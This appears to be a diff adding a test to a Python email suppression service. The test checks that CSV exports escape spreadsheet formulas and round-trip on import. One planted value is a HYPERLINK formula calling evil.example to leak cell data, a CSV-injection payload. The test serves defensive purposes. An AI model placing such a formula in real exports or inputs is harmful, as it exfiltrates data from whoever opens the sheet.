@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import argparse
 import asyncio
+import csv
 import email.utils
+import io
 import json
 import mailbox
 import shutil
@@ -194,6 +196,38 @@ async def test_suppression_api(make_stack: MakeStack) -> None:
     assert body["items"][0]["address"] == "a@remote.test"
     assert body["items"][0]["note"] == "customer asked"
     assert body["items"][0]["removed_by"] == "api:ops"
+
+
+async def test_the_suppression_export_never_carries_a_formula(make_stack: MakeStack) -> None:
+    """A reason (written by any scoped token holder) or an address beginning a spreadsheet
+    formula is exported as text (OWASP "CSV Injection"), and imports back as it was."""
+    stack = await make_stack()
+    planted = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    for address, reason in (("victim@remote.test", planted), ("=1+1@remote.test", "@SUM(1)"),
+                            ("-dash@remote.test", "+1 cleanup")):
+        status, _ = await stack.api("POST", "/suppressions",
+                                    json={"address": address, "reason": reason},
+                                    token=EXAMPLE_TOKEN)
+        assert status == 201
+    status, text = await stack.api("GET", "/suppressions/export")
+    rows = {r["reason"]: r for r in csv.DictReader(io.StringIO(text))}
+    assert set(rows) == {"'" + planted, "'@SUM(1)", "'+1 cleanup"}
+    assert rows["'@SUM(1)"]["address"] == "'=1+1@remote.test"
+    assert rows["'+1 cleanup"]["address"] == "'-dash@remote.test"
+    for line in text.splitlines()[1:]:
+        assert not line.startswith(("=", "+", "-", "@"))
+        assert all(not cell.startswith(("=", "+", "-", "@")) for cell in next(csv.reader([line])))
+
+    for address in ("victim@remote.test", "=1+1@remote.test", "-dash@remote.test"):
+        status, _ = await stack.api("DELETE", f"/suppressions/{address}",
+                                    params={"scope": "example.com"})
+        assert status == 200
+    status, body = await stack.api("POST", "/suppressions/import", data=text)
+    assert status == 200 and body["added"] == 3, body
+    status, body = await stack.api("GET", "/suppressions")
+    assert {(i["address"], i["reason"]) for i in body["items"]} == {
+        ("victim@remote.test", planted), ("=1+1@remote.test", "@SUM(1)"),
+        ("-dash@remote.test", "+1 cleanup")}
 
 
 @pytest.fixture(autouse=True)
